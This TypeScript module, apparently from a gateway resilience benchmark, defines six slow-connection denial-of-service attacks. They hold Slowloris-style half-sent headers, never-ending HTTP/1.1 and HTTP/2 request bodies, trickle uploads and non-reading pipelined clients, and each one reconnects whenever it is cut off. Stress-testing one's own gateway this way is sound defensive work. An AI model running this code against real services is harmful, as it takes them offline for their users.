import { type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';

/** What a gateway is given by clients that are no good. @param caller the credentials of one @returns ends it */
export type Attack = (url: string, caller: Record<string, string>) => Promise<() => void>;

const BODIES = 100;
const MANY_BODIES = 1_000;
const READERS = 100;
const HALF_OPEN = 1_000;
/** Who is cut comes again after so long, in milliseconds. */
const RETRY_MS = 1_000;
/** So many requests a slow reader sends before it reads nothing: the most that a connection may have unanswered. */
const PIPELINED = 6;

const unfinished = (path: string): string =>
  `POST ${path} HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{`;

/** Connections that say this and then nothing, opened again where they are closed. */
const silent = (count: number, bytes: (n: number) => string, doesRead: boolean): Attack => {
  return async (url) => {
    const { hostname, port } = new URL(url);
    const sockets = new Set<Socket>();
    let isOver = false;
    const open = (n: number): void => {
      const socket = connect(Number(port), hostname).on('error', () => {});
      sockets.add(socket);
      if (doesRead) socket.resume();
      else socket.pause();
      socket.write(bytes(n));
      socket.once('close', () => {
        sockets.delete(socket);
        if (!isOver) setTimeout(open, RETRY_MS, n);
      });
    };
    for (let n = 0; n < count; n += 1) open(n);
    return () => {
      isOver = true;
      for (const socket of sockets) socket.destroy();
    };
  };
};

/** A request whose body does not end. */
interface Endless {
  path: string;
  type: string;
  /** A byte follows after each of so many milliseconds; none without it. */
  paceMs?: number;
}

/** Two connections of HTTP/2, full of bodies that do not end. */
const endlessOfHttp2 = ({ path, type, paceMs }: Endless): Attack => {
  return async (url, caller) => {
    const sessions = [0, 1].map(() => connectHttp2(url, { rejectUnauthorized: false }).on('error', () => {}));
    const streams = new Set<ClientHttp2Stream>();
    let isOver = false;
    for (const session of sessions) {
      const open = (): void => {
        if (isOver || session.destroyed) return;
        const headers = { ':method': 'POST', ':path': path, 'content-type': type, ...caller };
        const stream = session.request(headers, { endStream: false }).on('error', () => {});
        streams.add(stream);
        stream.write('{');
        stream.resume().once('close', () => {
          streams.delete(stream);
          setTimeout(open, RETRY_MS);
        });
      };
      for (let n = 0; n < BODIES; n += 1) open();
    }
    const timer = paceMs && setInterval(() => streams.forEach((one) => one.writable && one.write('x')), paceMs);
    return () => {
      isOver = true;
      clearInterval(timer);
      for (const session of sessions) session.destroy();
    };
  };
};

/** All of them; those of HTTP/2 want a gateway with a certificate. */
export const ATTACKS: { what: string; isSecure?: boolean; attack: Attack }[] = [
  {
    what: `${BODIES} bodies that do not end`,
    attack: silent(BODIES, (n) => unfinished(n % 2 ? '/v1/auth/login' : '/nope'), true),
  },
  {
    what: `${MANY_BODIES} bodies that do not end`,
    attack: silent(MANY_BODIES, (n) => unfinished(n % 2 ? '/v1/auth/login' : '/nope'), true),
  },
  {
    what: `2 × ${BODIES} bodies that do not end, HTTP/2`,
    isSecure: true,
    attack: endlessOfHttp2({ path: '/v1/auth/login', type: 'application/json' }),
  },
  {
    what: `2 × ${BODIES} uploads of a byte a second, HTTP/2`,
    isSecure: true,
    attack: endlessOfHttp2({ path: '/v1/uploads', type: 'text/plain', paceMs: 1_000 }),
  },
  {
    what: `${READERS} clients that do not read`,
    attack: silent(
      READERS,
      () => 'GET /v1/products?pageSize=100 HTTP/1.1\r\nHost: bench\r\n\r\n'.repeat(PIPELINED),
      false,
    ),
  },
  {
    what: `${HALF_OPEN} requests whose headers do not end`,
    attack: silent(HALF_OPEN, () => 'GET /v1/products/p1 HTTP/1.1\r\nHost: bench\r\nX-More: ', true),
  },
];
